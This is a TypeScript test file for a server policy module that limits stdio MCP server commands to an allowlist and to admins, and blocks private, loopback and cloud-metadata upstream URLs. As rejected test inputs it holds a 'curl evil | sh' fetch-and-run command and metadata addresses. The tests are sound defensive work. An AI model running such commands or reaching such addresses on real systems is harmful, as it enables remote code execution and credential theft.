import { serverConfigSchema } from "@switchyard/shared";
import { describe, expect, it } from "vitest";
import { CLI_ACTOR, type Actor } from "../context";
import { assertServerAllowed, matchesAllowlist, parseAllowlist, type ServerPolicy } from "./server-policy";

const developer: Actor = { kind: "user", userId: "u1", isAdmin: false };
const admin: Actor = { kind: "user", userId: "u2", isAdmin: true };
const stdio = (command: string, args: string[] = []) => serverConfigSchema.parse({ name: "s", transport: "stdio", command, args });
const remote = (url: string) => serverConfigSchema.parse({ name: "r", transport: "streamable_http", url });

describe("stdio policy", () => {
  const allowlist = parseAllowlist("npx -y @modelcontextprotocol/server-*; uvx mcp-server-fetch ...");

  it("parses entries and matches commands with argument patterns", () => {
    expect(allowlist).toEqual([
      { command: "npx", args: ["-y", "@modelcontextprotocol/server-*"] },
      { command: "uvx", args: ["mcp-server-fetch", "..."] },
    ]);
    expect(matchesAllowlist(allowlist, "npx", ["-y", "@modelcontextprotocol/server-memory"])).toBe(true);
    expect(matchesAllowlist(allowlist, "npx", ["-y", "evil-package"])).toBe(false);
    expect(matchesAllowlist(allowlist, "npx", ["-y", "@modelcontextprotocol/server-memory", "--extra"])).toBe(false);
    expect(matchesAllowlist(allowlist, "uvx", ["mcp-server-fetch", "--any", "args"])).toBe(true);
    expect(matchesAllowlist(allowlist, "bash", ["-c", "id"])).toBe(false);
  });

  it("off refuses every stdio server, even for admins", () => {
    const policy: ServerPolicy = { stdio: "off", stdioAllowlist: [], allowPrivateUpstreams: false };
    expect(() => assertServerAllowed(policy, CLI_ACTOR, stdio("node"))).toThrow("stdio servers are disabled");
  });

  it("allowlist accepts listed commands from instance admins only", () => {
    const policy: ServerPolicy = { stdio: "allowlist", stdioAllowlist: allowlist, allowPrivateUpstreams: false };
    const ok = stdio("npx", ["-y", "@modelcontextprotocol/server-memory"]);
    expect(() => assertServerAllowed(policy, admin, ok)).not.toThrow();
    expect(() => assertServerAllowed(policy, developer, ok)).toThrow("only instance admins");
    expect(() => assertServerAllowed(policy, admin, stdio("bash", ["-c", "curl evil | sh"]))).toThrow("not in STDIO_COMMAND_ALLOWLIST");
  });

  it("on accepts any command", () => {
    const policy: ServerPolicy = { stdio: "on", stdioAllowlist: [], allowPrivateUpstreams: true };
    expect(() => assertServerAllowed(policy, developer, stdio("anything"))).not.toThrow();
  });
});

describe("remote upstream policy at registration", () => {
  const strict: ServerPolicy = { stdio: "off", stdioAllowlist: [], allowPrivateUpstreams: false };

  it("refuses literal private, loopback, link-local and metadata addresses", () => {
    for (const url of ["http://127.0.0.1:8080/mcp", "http://10.1.2.3/mcp", "http://192.168.1.1/mcp", "http://169.254.169.254/latest", "http://[::1]/mcp", "http://localhost:3000/mcp", "http://metadata.google.internal/"]) {
      expect(() => assertServerAllowed(strict, developer, remote(url)), url).toThrow("private");
    }
  });

  it("accepts public hosts, and private ones when ALLOW_PRIVATE_UPSTREAMS is on", () => {
    expect(() => assertServerAllowed(strict, developer, remote("https://mcp.example.com/mcp"))).not.toThrow();
    expect(() => assertServerAllowed({ ...strict, allowPrivateUpstreams: true }, developer, remote("http://127.0.0.1:9000/mcp"))).not.toThrow();
  });
});
